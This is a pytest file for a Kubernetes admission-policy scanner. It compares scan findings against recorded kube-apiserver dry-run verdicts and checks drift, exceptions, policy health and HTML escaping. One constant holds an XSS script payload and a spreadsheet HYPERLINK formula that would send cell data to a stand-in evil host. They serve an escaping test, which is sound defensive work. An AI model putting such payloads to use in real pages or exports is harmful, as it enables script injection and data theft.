"""A scan of the example cluster has the verdicts of kube-apiserver about the same objects, and the promised history.

`verdicts.json` holds what kube-apiserver 1.36 answered to a server-side dry-run create of every object that can be
created, with all bindings set to Warn: policy, binding, kind, namespace, name, message.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path

import pytest

from scanner.model.json import Json, JsonObject, as_list, as_object, as_text, dig
from tests.command import assay_here

ROOT = Path(__file__).parents[2]
README = (ROOT / "examples" / "README.md").read_text()
RECORDED = json.loads(Path(__file__).with_name("verdicts.json").read_text())
STATES = ("before", "after")
POLICIES = ("policies", "policies-mutating", "policies-kyverno")
HOSTILE = ("<script>alert(1)</script>", '=HYPERLINK("https://evil.example/?x="&A1)')

Verdict = tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Ran:
    """How a command ended, and the document it wrote."""

    code: int
    report: JsonObject
    folder: Path


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Ran]:
    """Both states, scanned one after the other into one database, as the README shows it."""
    folder = tmp_path_factory.mktemp("examples")
    return {state: _scanned(state, folder) for state in STATES}


def _scanned(state: str, folder: Path) -> Ran:
    done = assay_here(
        *("scan", "-q", "-o", "json", "--from", f"examples/cluster/{state}"),
        *(argument for name in POLICIES for argument in ("-f", f"examples/{name}")),
        *("--cluster-name", "shop", "--db", folder / "assay.db", "--html", folder / state),
        home=ROOT,
    )
    return Ran(done.code, done.report, folder / state)


def findings(ran: Ran, language: str) -> list[Json]:
    """The findings of the policies of one language."""
    return [finding for finding in as_list(ran.report["findings"]) if dig(finding, "language") == language]


def verdicts(ran: Ran, language: str = "ValidatingAdmissionPolicy") -> set[Verdict]:
    """The findings in the form of the recorded verdicts."""
    return {_verdict(finding) for finding in findings(ran, language)}


def _verdict(finding: Json) -> Verdict:
    thing = dig(finding, "object")
    where = (as_text(dig(thing, key)) for key in ("kind", "namespace", "name"))
    return (
        as_text(dig(finding, "policy")),
        as_text(dig(finding, "binding")),
        *where,
        cause(as_text(dig(finding, "message"))),
    )


def cause(message: str) -> str:
    """Cut an error short: a server has filled in defaults, so another key may be the first that is missing."""
    return re.sub(r" resulted in error: .*", " resulted in error", message)


def recorded(state: str) -> set[Verdict]:
    """The answer of the server, with errors cut short."""
    return {(*verdict[:5], cause(verdict[5])) for verdict in RECORDED[state]}


def of(name: str, verdicts: set[Verdict]) -> set[str]:
    """The policies that speak about objects of a name."""
    return {policy for policy, _, _, _, named, _ in verdicts if named == name}


@pytest.mark.parametrize("state", STATES)
def test_every_verdict_of_the_server_is_found(state: str, ran: dict[str, Ran]) -> None:
    """Only the ClusterRole without rules stands apart: a server stores `rules: null`, which the policy cannot iterate."""
    missed = recorded(state) - verdicts(ran[state])
    assert {("rbac-wildcards", "observability")} == {(verdict[0], verdict[4]) for verdict in missed}


@pytest.mark.parametrize("state", STATES)
def test_nothing_else_is_found(state: str, ran: dict[str, Ran]) -> None:
    """Beyond what the server warns of: objects that it cannot store, a denial with any action, an error that it ignores."""
    beyond = verdicts(ran[state]) - recorded(state)
    expected = {
        *(("owner", name) for name in HOSTILE),
        ("storage-limits", "scratch"),
        ("database-settings", "postgres-replica"),
    }
    assert expected == {(verdict[0], verdict[4]) for verdict in beyond}


def test_the_second_scan_tells_what_changed(ran: dict[str, Ran]) -> None:
    """The README has the numbers of new, still open and resolved findings."""
    (line,) = (line for line in README.splitlines() if line.startswith("The second scan finds"))
    changes = as_object(ran["after"].report["changes"])
    assert [int(number) for number in re.findall(r"\d+", line)] == [changes[key] for key in ("new", "open", "resolved")]


@pytest.mark.parametrize(("name", "policies"), [("netshoot", {"host-access"}), ("promotion", {"ingress-tls"})])
def test_what_was_fixed_is_found_no_more(name: str, policies: set[str], ran: dict[str, Ran]) -> None:
    """A deleted pod and an Ingress that gained TLS."""
    assert policies == of(name, verdicts(ran["before"]))
    assert set() == of(name, verdicts(ran["after"]))


def test_the_mutating_policy_would_change_what_is_older_than_it(ran: dict[str, Ran]) -> None:
    """Three workloads lack the label that the policy adds: drift, and no violation."""
    drift = findings(ran["after"], "MutatingAdmissionPolicy")
    assert {"wouldChange"} == {as_text(dig(finding, "outcome")) for finding in drift}
    assert {"wiki", "fraud-scorer", "landing-page"} == {as_text(dig(finding, "object", "name")) for finding in drift}


def test_the_policy_of_kyverno_is_evaluated_for_the_controllers_of_pods(ran: dict[str, Ran]) -> None:
    """The policy names pods alone; the findings are on Deployments, CronJobs and Jobs too."""
    kinds = {verdict[2] for verdict in verdicts(ran["after"], "ValidatingPolicy")}
    assert {"CronJob", "DaemonSet", "Deployment", "Job", "Pod", "ReplicaSet"} == kinds


def test_the_exception_of_kyverno_covers_the_platform_alone(ran: dict[str, Ran]) -> None:
    """Excepted findings are those in the namespace of the PolicyException."""
    excepted = [finding for finding in findings(ran["after"], "ValidatingPolicy") if dig(finding, "exceptedBy")]
    assert ["platform"] * 3 == [as_text(dig(finding, "object", "namespace")) for finding in excepted]


@pytest.mark.parametrize("state", STATES)
def test_an_unreadable_document_is_a_gap_and_an_unneeded_one_is_out_of_scope(state: str, ran: dict[str, Ran]) -> None:
    """A document of each state, and the exit code that goes with it. No policy needs the kind of the other one."""
    gaps = [as_text(dig(gap, "where")) for gap in as_list(ran[state].report["gaps"])]
    outside = [as_text(dig(item, "where")) for item in as_list(ran[state].report["outOfScope"])]
    assert (["broken-tabs.yaml, document 1"], ["broken-unknown-kind.yaml, document 1"]) == (gaps, outside)
    assert ran[state].code == 3


@pytest.mark.parametrize("state", STATES)
def test_policy_health_names_what_protects_nothing(state: str, ran: dict[str, Ran]) -> None:
    """Unbound, dangling, without a served kind, without an object, without its param, and in a version that is not served."""
    expected = {
        ("danglingBinding", "pod-quota"),
        ("hiddenErrors", "database-settings"),
        ("matchedNoObject", "gateway-hosts"),
        ("matchedNoObject", "runtime-classes"),
        ("matchesNoServedKind", "gateway-hosts"),
        ("paramNotFound", "storage-limits"),
        ("unbound", "egress-rules"),
        ("versionNotServed", "minimum-replicas"),
    }
    entries = as_list(ran[state].report["health"])
    assert expected == {(as_text(dig(entry, "kind")), as_text(dig(entry, "policy"))) for entry in entries}


@pytest.mark.parametrize(
    ("name", "refused"),
    [("fraud-scorer", True), ("scratch", True), ("postgres-replica", False)],
)
def test_errors_tell_whether_admission_would_refuse(name: str, refused: bool, ran: dict[str, Ran]) -> None:  # noqa: FBT001 - a column
    """FailurePolicy Fail and a missing param refuse, failurePolicy Ignore admits."""
    findings = as_list(ran["after"].report["findings"])
    errors = [item for item in findings if dig(item, "outcome") == "errored" and dig(item, "object", "name") == name]
    assert [refused] == [dig(item, "wouldDeny") for item in errors]


def test_markup_stays_text_in_every_page(ran: dict[str, Ran]) -> None:
    """Names, annotations and messages that are markup never become markup."""
    pages = [path.read_text() for path in sorted(ran["after"].folder.rglob("*.html"))]
    assert [] == [page for page in pages if "<script>alert(1)" in page or "<img src=x" in page]
    assert [] != [page for page in pages if "&lt;script&gt;alert(1)" in page]


def test_an_unbound_policy_can_be_previewed(tmp_path: Path) -> None:
    """The command of the README, with the findings that a binding would bring."""
    done = assay_here(
        *("scan", "-q", "-o", "json", "--from", "examples/cluster/after", "-f", "examples/policies-unbound"),
        *("--assume-bound", "graceful-shutdown=Warn", "--db", tmp_path / "preview.db"),
        home=ROOT,
    )
    verdicts = {_verdict(item) for item in as_list(done.report["findings"])}
    assert "the pod gets less than 10 seconds to shut down" in {item[5] for item in verdicts if item[4] == "checkout"}
    assert "no readiness probe: wiki" in {item[5] for item in verdicts if item[4] == "wiki"}
